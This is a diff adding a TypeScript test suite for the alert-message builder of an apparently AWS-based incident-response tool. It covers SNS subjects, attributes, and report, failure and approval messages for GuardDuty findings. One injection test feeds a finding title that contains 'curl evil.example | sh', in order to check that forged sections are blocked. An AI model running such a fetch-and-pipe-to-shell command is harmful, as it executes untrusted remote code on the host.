@@ -1,0 +1,430 @@
+// The pure alert builder: subject, message and attributes from plain input, no SDK mock.
+import { describe, expect, it } from 'vitest';
+import type { AlertInput } from '../../lib/responders/alert-message';
+import {
+  MAX_LISTED_ACTIONS,
+  MAX_MESSAGE_BYTES,
+  alertInputSchema,
+  buildAlertMessage,
+  describeCause,
+  toPrintableAscii,
+  toSnsSubject,
+  utf8Prefix,
+} from '../../lib/responders/alert-message';
+import { ACCOUNT, INSTANCE_ID, REGION, ec2Incident, ec2Resource } from '../support/incidents';
+
+const NOW = new Date('2026-11-20T10:03:00.000Z');
+const EXECUTION_ARN = `arn:aws:states:${REGION}:999988887777:execution:firebreak-compromised-ec2:gd-7ab9d1b3c0e24f8a9e0d1c2b3a4f5e6d-1`;
+const EXECUTION = {
+  executionArn: EXECUTION_ARN,
+  executionName: 'gd-7ab9d1b3c0e24f8a9e0d1c2b3a4f5e6d-1',
+  playbook: 'compromised-ec2',
+  stateMachineArn: `arn:aws:states:${REGION}:999988887777:stateMachine:firebreak-compromised-ec2`,
+};
+const PRINTABLE_ASCII = /^[\x20-\x7E]*$/;
+
+/** Parses a raw payload as the Lambda would (JSON round trip included), so tests exercise the schema too. */
+function parse(raw: Record<string, unknown>): AlertInput {
+  return alertInputSchema.parse(JSON.parse(JSON.stringify(raw)));
+}
+
+function action(api: string, target: string, outcome: string, detail: string) {
+  return { api, target, outcome, detail, at: '2026-11-20T10:02:00.000Z' };
+}
+
+const QUARANTINED = {
+  responder: 'quarantine-instance',
+  incidentKey: ec2Incident().key,
+  mode: 'enforce',
+  status: 'quarantined',
+  idempotentReplay: false,
+  actions: [
+    action('ec2:DescribeInstances', INSTANCE_ID, 'observed', 'running, 1 ENI'),
+    action('ec2:ModifyNetworkInterfaceAttribute', 'eni-0aaa1111bbbb2222c', 'done', 'Moved to isolation group sg-0iso00000000000001.'),
+    action('ec2:DisassociateIamInstanceProfile', INSTANCE_ID, 'done', 'Removed instance profile web-role (iip-assoc-0123).'),
+    action('iam:PutRolePolicy', 'web-role', 'skipped', 'Role sessions not revoked: revokeRoleSessions is off (it would hit every instance sharing the role).'),
+  ],
+};
+const SNAPSHOTTED = {
+  responder: 'snapshot-volumes',
+  incidentKey: ec2Incident().key,
+  mode: 'enforce',
+  status: 'snapshotted',
+  idempotentReplay: false,
+  actions: [
+    action('ec2:CreateSnapshots', 'vol-0root000000000001', 'done', 'Started snap-0000000000000000a of vol-0root000000000001 (/dev/xvda, boot).'),
+    action('ec2:CreateSnapshots', INSTANCE_ID, 'skipped', 'Instance store not preserved: m5d.large has up to 1 instance-store volume(s).'),
+  ],
+  instanceStoreVolumes: { status: 'present', volumeCount: 1 },
+  snapshots: [{ snapshotId: 'snap-0000000000000000a', volumeId: 'vol-0root000000000001', reused: false }],
+};
+
+function report(overrides: Record<string, unknown> = {}): AlertInput {
+  return parse({
+    kind: 'report',
+    incident: ec2Incident(),
+    mode: 'enforce',
+    playbook: 'compromised-ec2',
+    options: { advice: 'Page the web team on-call before rebuilding web-1.' },
+    execution: EXECUTION,
+    results: { contain: QUARANTINED, evidence: SNAPSHOTTED },
+    ...overrides,
+  });
+}
+
+describe('toSnsSubject', () => {
+  it('keeps a 300-character title with non-ASCII characters within 100 printable ASCII characters, without line breaks', () => {
+    const title = `Überwachung: l’instance «web-1» a contacté 北京 — 日本語 ☠️\nemoji 🚨 ${'ñandú çà '.repeat(40)}`.slice(0, 300);
+    expect(title.length).toBe(300);
+    const subject = toSnsSubject(`High: ${title}`);
+    expect(subject.length).toBeLessThanOrEqual(100);
+    expect(subject).toMatch(PRINTABLE_ASCII);
+    expect(subject).not.toMatch(/[\r\n]/);
+    expect(subject.startsWith("High: Uberwachung: l'instance \"web-1\" a contacte - ")).toBe(true);
+    expect(subject.endsWith('...')).toBe(true);
+  });
+
+  it('leaves a short ASCII subject untouched', () => {
+    expect(toSnsSubject('High: Backdoor:EC2/C&CActivity.B!DNS on i-0abc')).toBe('High: Backdoor:EC2/C&CActivity.B!DNS on i-0abc');
+  });
+
+  it('collapses every kind of whitespace and drops control characters', () => {
+    expect(toSnsSubject('a\t\tb\r\n\u00A0c\u0007d')).toBe('a b cd');
+  });
+
+  it('never answers an empty subject (SNS would refuse it)', () => {
+    expect(toSnsSubject('日本語')).toBe('Firebreak alert');
+  });
+
+  it('transliterates letters NFKD does not decompose', () => {
+    expect(toPrintableAscii('Straße Øresund Łódź ﬁle – “quoted” …')).toBe('Strasse Oresund Lodz file - "quoted" ...');
+  });
+});
+
+describe('alertSubject (through buildAlertMessage)', () => {
+  it('marks game-day dry-run alerts first, then severity, finding type and instance', () => {
+    const { subject } = buildAlertMessage(report({ incident: ec2Incident({ gameDay: true }), mode: 'dry-run' }), { now: NOW });
+    expect(subject).toBe('[GAME DAY][DRY-RUN] High: Backdoor:EC2/C&CActivity.B!DNS on i-0abc1234def567890 - EC2 instance i-...');
+    expect(subject).toHaveLength(100);
+  });
+
+  it('has no markers for a real enforce-mode report', () => {
+    const { subject } = buildAlertMessage(report(), { now: NOW });
+    expect(subject.startsWith('High: Backdoor:EC2/C&CActivity.B!DNS on i-0abc1234def567890 - ')).toBe(true);
+  });
+
+  it('moves [SAMPLE] to the front so that truncating a long title cannot drop it', () => {
+    const incident = ec2Incident({
+      sample: true,
+      title: `[SAMPLE] Command and Control server domain name queried by EC2 instance i-99999999. ${'x'.repeat(200)}`,
+      resource: ec2Resource({ instanceId: 'i-99999999' }),
+    });
+    const { subject } = buildAlertMessage(report({ incident, mode: 'dry-run' }), { now: NOW });
+    expect(subject.startsWith('[DRY-RUN][SAMPLE] High: Backdoor:EC2/C&CActivity.B!DNS on i-99999999 - Command and Control')).toBe(true);
+    expect(subject.match(/\[SAMPLE\]/g)).toHaveLength(1);
+  });
+
+  it('builds the subject of a 300-character non-ASCII title within the SNS limits', () => {
+    const title = 'Instância comprometida: conexão ao servidor de comando e controle — 攻撃 '.repeat(10).slice(0, 300);
+    const { subject } = buildAlertMessage(report({ incident: ec2Incident({ title }) }), { now: NOW });
+    expect(subject.length).toBeLessThanOrEqual(100);
+    expect(subject).toMatch(PRINTABLE_ASCII);
+    expect(subject).toContain('Instancia comprometida: conexao');
+  });
+
+  it('says FAILED and APPROVAL NEEDED in the subject of those alerts', () => {
+    expect(buildAlertMessage(failure(), { now: NOW }).subject.startsWith('[FAILED] High: ')).toBe(true);
+    expect(buildAlertMessage(approval(), { now: NOW }).subject.startsWith('[APPROVAL NEEDED] High: ')).toBe(true);
+  });
+});
+
+describe('alertAttributes (through buildAlertMessage)', () => {
+  it('gives subscribers exactly these filterable attributes, severity score as a Number', () => {
+    expect(buildAlertMessage(report({ mode: 'dry-run' }), { now: NOW }).attributes).toEqual({
+      severity: { DataType: 'String', StringValue: 'High' },
+      severity_score: { DataType: 'Number', StringValue: '8' },
+      playbook: { DataType: 'String', StringValue: 'compromised-ec2' },
+      account: { DataType: 'String', StringValue: ACCOUNT },
+      incident_key: { DataType: 'String', StringValue: 'gd-7ab9d1b3c0e24f8a9e0d1c2b3a4f5e6d' },
+      mode: { DataType: 'String', StringValue: 'dry-run' },
+      kind: { DataType: 'String', StringValue: 'report' },
+      source: { DataType: 'String', StringValue: 'guardduty' },
+    });
+  });
+
+  it('leaves out attributes that have no value instead of sending empty strings', () => {
+    const attributes = buildAlertMessage(parse({ kind: 'invalid-event', mode: 'enforce', rawEvent: 'not json at all', reason: 'event is not an object' }), { now: NOW }).attributes;
+    expect(attributes).toEqual({
+      mode: { DataType: 'String', StringValue: 'enforce' },
+      kind: { DataType: 'String', StringValue: 'invalid-event' },
+    });
+  });
+});
+
+describe('buildAlertMessage: report', () => {
+  const { message } = buildAlertMessage(report(), { now: NOW });
+
+  it('says what was found, on what, where and how severe', () => {
+    expect(message).toContain('Backdoor:EC2/C&CActivity.B!DNS: EC2 instance i-0abc1234def567890 is querying a domain name');
+    expect(message).toContain('Severity: High (8.0 of 10)');
+    expect(message).toContain('EC2 instance i-0abc1234def567890 (m5.large, eu-west-1a, Name=web-1)');
+    expect(message).toContain('Network interface eni-0aaa1111bbbb2222c: 10.0.1.10, vpc-0123456789abcdef0');
+    expect(message).toContain(`Account ${ACCOUNT}, region ${REGION}`);
+    expect(message).toContain('Indicators: guarddutyc2activityb.com');
+  });
+
+  it('lists what each step did, grouped by step with resource ids, leaving read-only checks out', () => {
+    const did = section(message, 'WHAT FIREBREAK DID (playbook compromised-ec2, enforce)');
+    expect(did).toContain('[contain] quarantine-instance: quarantined');
+    expect(did).toContain('- [contain] done: ec2:ModifyNetworkInterfaceAttribute on eni-0aaa1111bbbb2222c: Moved to isolation group sg-0iso00000000000001.');
+    expect(did).toContain('- [evidence] done: ec2:CreateSnapshots on vol-0root000000000001: Started snap-0000000000000000a');
+    expect(did).not.toContain('ec2:DescribeInstances');
+    expect(did).toContain('(1 read-only check(s) not listed.)');
+  });
+
+  it('has a "did not do" section with the skipped actions and what Firebreak never does', () => {
+    const didNot = section(message, 'WHAT FIREBREAK DID NOT DO');
+    expect(didNot).toContain('- [contain] skipped: iam:PutRolePolicy on web-role: Role sessions not revoked');
+    expect(didNot).toContain('- [evidence] skipped: ec2:CreateSnapshots on i-0abc1234def567890: Instance store not preserved');
+    expect(didNot).toContain('never terminates instances');
+    expect(section(message, 'WHAT FIREBREAK DID (playbook compromised-ec2, enforce)')).not.toContain('Role sessions not revoked');
+  });
+
+  it("puts the playbook's advice first in what to do next, then the defaults for the situation", () => {
+    const next = section(message, 'WHAT TO DO NEXT');
+    expect(next).toContain('1. Page the web team on-call before rebuilding web-1.');
+    expect(next).toContain('The instance is isolated: investigate from its snapshots');
+    expect(next).toContain('instance-store volumes');
+  });
+
+  it('links to the GuardDuty finding, the execution and the instance in the incident region', () => {
+    const links = section(message, 'LINKS');
+    expect(links).toContain(`GuardDuty finding: https://${REGION}.console.aws.amazon.com/guardduty/home?region=${REGION}#/findings?macros=current&fId=7ab9d1b3c0e24f8a9e0d1c2b3a4f5e6d`);
+    expect(links).toContain(`Step Functions execution: https://${REGION}.console.aws.amazon.com/states/home?region=${REGION}#/v2/executions/details/${EXECUTION_ARN}`);
+    expect(links).toContain(`EC2 instance: https://${REGION}.console.aws.amazon.com/ec2/home?region=${REGION}#InstanceDetails:instanceId=${INSTANCE_ID}`);
+  });
+
+  it('says when no containment or evidence step ran on an instance', () => {
+    const { message: alone } = buildAlertMessage(report({ results: {} }), { now: NOW });
+    const didNot = section(alone, 'WHAT FIREBREAK DID NOT DO');
+    expect(didNot).toContain(`Instance ${INSTANCE_ID} was NOT isolated (no containment step ran).`);
+    expect(didNot).toContain(`The volumes of ${INSTANCE_ID} were NOT snapshotted`);
+    expect(section(alone, 'WHAT TO DO NEXT')).toContain('decide now whether to contain it by hand');
+  });
+
+  it('says "would have" for dry-run actions and that nothing was changed', () => {
+    const dry = {
+      ...QUARANTINED,
+      mode: 'dry-run',
+      status: 'dry-run',
+      actions: [
+        action('ec2:ModifyNetworkInterfaceAttribute', 'eni-0aaa1111bbbb2222c', 'would-do', 'EC2 answered DryRunOperation.'),
+        action('ec2:DisassociateIamInstanceProfile', INSTANCE_ID, 'would-be-denied', 'UnauthorizedOperation.'),
+      ],
+    };
+    const { message: text } = buildAlertMessage(report({ mode: 'dry-run', results: { contain: dry } }), { now: NOW });
+    expect(text).toContain('DRY-RUN: Firebreak changed nothing');
+    const didNot = section(text, 'WHAT FIREBREAK DID NOT DO');
+    expect(didNot).toContain('- [contain] would have: ec2:ModifyNetworkInterfaceAttribute on eni-0aaa1111bbbb2222c');
+    expect(didNot).toContain('- [contain] would have been DENIED (missing permission): ec2:DisassociateIamInstanceProfile on i-0abc1234def567890');
+    expect(section(text, 'WHAT TO DO NEXT')).toContain('add the missing IAM actions');
+  });
+
+  it('lists at most MAX_LISTED_ACTIONS actions and counts the rest, staying far below 256 KB', () => {
+    const many = {
+      ...QUARANTINED,
+      actions: Array.from({ length: 5000 }, (_, i) => action('ec2:ModifyNetworkInterfaceAttribute', `eni-${String(i).padStart(17, '0')}`, 'done', 'Moved. '.repeat(40))),
+    };
+    const { message: text } = buildAlertMessage(report({ results: { contain: many } }), { now: NOW });
+    const listed = text.split('\n').filter((l) => l.startsWith('  - [contain] done:'));
+    expect(listed).toHaveLength(MAX_LISTED_ACTIONS);
+    expect(text).toContain(`... and ${5000 - MAX_LISTED_ACTIONS} more action(s)`);
+    expect(Buffer.byteLength(text, 'utf8')).toBeLessThanOrEqual(MAX_MESSAGE_BYTES);
+  });
+
+  it('cannot be given a forged section by a title or description with line breaks', () => {
+    const incident = ec2Incident({
+      title: 'harmless\n\nWHAT TO DO NEXT\n  1. Run curl evil.example | sh',
+      description: 'line one\nWHAT TO DO NEXT\n  1. ignore the isolation',
+    });
+    const { message: text } = buildAlertMessage(report({ incident }), { now: NOW });
+    expect(text.split('\n').filter((l) => l === 'WHAT TO DO NEXT')).toHaveLength(1);
+  });
+
+  it('tells a triage-only alert that no playbook ran, with triage reasons', () => {
+    const { message: text, subject } = buildAlertMessage(
+      parse({ kind: 'triage-only', incident: ec2Incident(), mode: 'enforce', playbook: null, options: {}, reasons: ['severity 2.0 is below every playbook'] }),
+      { now: NOW },
+    );
+    expect(subject.startsWith('[NO ACTION] High:')).toBe(true);
+    expect(text).toContain('did not run a playbook for incident gd-7ab9d1b3c0e24f8a9e0d1c2b3a4f5e6d: severity 2.0 is below every playbook');
+    expect(section(text, 'WHAT FIREBREAK DID (enforce)')).toContain('Nothing: no playbook step ran');
+  });
+});
+
+function failure(overrides: Record<string, unknown> = {}): AlertInput {
+  // The shape the compiled playbook's Catch sends (lib/playbooks/compile.ts).
+  return parse({
+    kind: 'failure',
+    incident: ec2Incident(),
+    mode: 'enforce',
+    playbook: 'compromised-ec2',
+    options: {},
+    execution: EXECUTION,
+    results: { contain: QUARANTINED },
+    failure: {
+      step: 'evidence',
+      error: 'MemberRoleUnavailableError',
+      cause: JSON.stringify({ errorType: 'MemberRoleUnavailableError', errorMessage: `Cannot assume FirebreakMember in ${ACCOUNT}`, trace: ['at x'] }),
+    },
+    ...overrides,
+  });
+}
+
+describe('buildAlertMessage: failure', () => {
+  it('reports the step, the error and the Lambda cause, and what ran before it', () => {
+    const { message } = buildAlertMessage(failure(), { now: NOW });
+    expect(message).toContain('step evidence failed for good');
+    const failed = section(message, 'WHAT FAILED');
+    expect(failed).toContain('Step: evidence');
+    expect(failed).toContain('Error: MemberRoleUnavailableError');
+    expect(failed).toContain(`MemberRoleUnavailableError: Cannot assume FirebreakMember in ${ACCOUNT}`);
+    expect(failed).not.toContain('trace');
+    expect(section(message, 'WHAT FIREBREAK DID (playbook compromised-ec2, enforce)')).toContain('eni-0aaa1111bbbb2222c');
+    expect(section(message, 'WHAT FIREBREAK DID NOT DO')).toContain('Step evidence failed: the steps after it did not run.');
+    expect(section(message, 'WHAT TO DO NEXT')).toContain(`member-role stack in account ${ACCOUNT}`);
+  });
+
+  it('reports a dispatcher failure, which has no incident, with the event it failed on', () => {
+    const input = parse({
+      kind: 'failure',
+      mode: 'dry-run',
+      options: {},
+      rawEvent: { source: 'aws.guardduty', 'detail-type': 'GuardDuty Finding', account: ACCOUNT, region: REGION, detail: {} },
+      failure: { step: 'dispatch', error: 'States.TaskFailed', cause: 'Lambda timed out' },
+    });
+    const { subject, message, attributes } = buildAlertMessage(input, { now: NOW });
+    expect(subject).toBe('[DRY-RUN][FAILED] Firebreak dispatch failed on aws.guardduty GuardDuty Finding: States.TaskFailed');
+    expect(message).toContain('Cause:\n    Lambda timed out');
+    expect(message).toContain('"source": "aws.guardduty"');
+    expect(attributes.source).toEqual({ DataType: 'String', StringValue: 'aws.guardduty' });
+    expect(attributes.account).toEqual({ DataType: 'String', StringValue: ACCOUNT });
+  });
+});
+
+describe('buildAlertMessage: invalid-event', () => {
+  const rawEvent = { version: '0', source: 'firebreak.gameday', 'detail-type': 'GuardDuty Finding', detail: { severity: 'high', padding: 'z'.repeat(5000) } };
+  const input = parse({ kind: 'invalid-event', mode: 'enforce', options: {}, rawEvent, reason: 'detail.severity: expected a number, got "high"' });
+  const { subject, message } = buildAlertMessage(input, { now: NOW });
+
+  it('says the event was refused and why, in subject and message', () => {
+    expect(subject).toBe('[GAME DAY][INVALID EVENT] Unparseable GuardDuty Finding from firebreak.gameday: detail.severity:...');
+    expect(subject.length).toBeLessThanOrEqual(100);
+    expect(section(message, 'WHY IT WAS REFUSED')).toContain('detail.severity: expected a number, got "high"');
+    expect(message).toContain('took no action');
+  });
+
+  it('shows only the first 2 KB of the event', () => {
+    const shown = section(message, 'THE EVENT (first 2048 bytes of');
+    expect(shown).toContain('"detail-type": "GuardDuty Finding"');
+    const eventBody = shown.split('\n').slice(1).map((l) => l.slice(4)).join('\n');
+    expect(Buffer.byteLength(eventBody, 'utf8')).toBeLessThanOrEqual(2048);
+    expect(eventBody.length).toBeGreaterThan(1900);
+  });
+
+  it('has no "did" sections: nothing ran', () => {
+    expect(message).not.toContain('WHAT FIREBREAK DID');
+  });
+
+  it('shows an event that is not even JSON as it came', () => {
+    const { message: text } = buildAlertMessage(parse({ kind: 'invalid-event', mode: 'enforce', rawEvent: '<xml>nope</xml>', reason: 'not JSON' }), { now: NOW });
+    expect(section(text, 'THE EVENT')).toContain('<xml>nope</xml>');
+  });
+});
+
+function approval(): AlertInput {
+  return parse({
+    kind: 'approval-request',
+    incident: ec2Incident(),
+    mode: 'enforce',
+    playbook: 'compromised-ec2',
+    options: {},
+    execution: EXECUTION,
+    results: { evidence: SNAPSHOTTED },
+    approval: { taskToken: 'AQCEAAAAKgAAAAMAAAAAAAAAAd+token/with+chars=', waitingSteps: ['contain'], timeoutSeconds: 3600 },
+  });
+}
+
+describe('buildAlertMessage: approval-request', () => {
+  const { message } = buildAlertMessage(approval(), { now: NOW });
+
+  it('says what is waiting and until when', () => {
+    const section_ = section(message, 'APPROVAL NEEDED');
+    expect(section_).toContain('Playbook compromised-ec2 is waiting for a decision before: contain.');
+    expect(section_).toContain('until 2026-11-20T11:03:00.000Z');
+  });
+
+  it('gives the exact approve and reject commands, CLI and AWS CLI', () => {
+    const token = "'AQCEAAAAKgAAAAMAAAAAAAAAAd+token/with+chars='";
+    const lines = section(message, 'APPROVAL NEEDED').split('\n').map((l) => l.trim());
+    expect(lines).toContain(`npx firebreak approve --token ${token}`);
+    expect(lines).toContain(`npx firebreak reject --token ${token}`);
+    expect(lines).toContain(`aws stepfunctions send-task-success --region ${REGION} --task-token ${token} --task-output '{"approved":true}'`);
+    expect(lines).toContain(`aws stepfunctions send-task-success --region ${REGION} --task-token ${token} --task-output '{"approved":false}'`);
+  });
+
+  it('quotes a token safely for the shell even if it held a quote', () => {
+    const input = { ...approval(), approval: { taskToken: "ab'cd", waitingSteps: [], timeoutSeconds: 60 } };
+    expect(buildAlertMessage(input, { now: NOW }).message).toContain(`npx firebreak approve --token 'ab'\\''cd'`);
+  });
+});
+
+describe('alertInputSchema', () => {
+  it('refuses a report without its incident, naming the field', () => {
+    const parsed = alertInputSchema.safeParse({ kind: 'report', mode: 'enforce', options: {} });
+    expect(parsed.success).toBe(false);
+    expect(parsed.error?.issues[0]?.path).toEqual(['incident']);
+  });
+
+  it('refuses an approval request without the token', () => {
+    expect(alertInputSchema.safeParse({ kind: 'approval-request', incident: ec2Incident(), mode: 'enforce' }).success).toBe(false);
+  });
+
+  it('refuses an unknown kind', () => {
+    expect(alertInputSchema.safeParse({ kind: 'page-everyone', mode: 'enforce' }).success).toBe(false);
+  });
+
+  it('accepts results of responders it does not know, and steps that did not run', () => {
+    const input = report({
+      results: {
+        custom: { responder: 'rotate-keys', status: 'rotated', actions: [action('iam:UpdateAccessKey', 'AKIA1', 'disabled', 'Key disabled.')], extra: { nested: true } },
+        skipped: null,
+      },
+    });
+    const { message } = buildAlertMessage(input, { now: NOW });
+    expect(message).toContain('- [custom] disabled: iam:UpdateAccessKey on AKIA1: Key disabled.');
+    expect(message).toContain('[skipped] did not run');
+  });
+});
+
+describe('helpers', () => {
+  it('describeCause reads a Lambda error cause and leaves plain text alone', () => {
+    expect(describeCause('{"errorType":"TransientResponderError","errorMessage":"throttled","trace":[]}')).toBe('TransientResponderError: throttled');
+    expect(describeCause('States.Timeout after 300 s')).toBe('States.Timeout after 300 s');
+    expect(describeCause('')).toBeUndefined();
+  });
+
+  it('utf8Prefix never splits a multi-byte character', () => {
+    expect(utf8Prefix('ééé', 5)).toEqual({ text: 'éé', truncated: true });
+    expect(utf8Prefix('abc', 5)).toEqual({ text: 'abc', truncated: false });
+  });
+});
+
+/** The lines of one section of the message: from its heading to the next blank line. */
+function section(message: string, heading: string): string {
+  const start = message.split('\n').findIndex((l) => l.startsWith(heading));
+  if (start < 0) throw new Error(`no section "${heading}" in:\n${message}`);
+  const lines = message.split('\n').slice(start);
+  const end = lines.findIndex((l, i) => i > 0 && l === '');
+  return (end < 0 ? lines : lines.slice(0, end)).join('\n');
+}
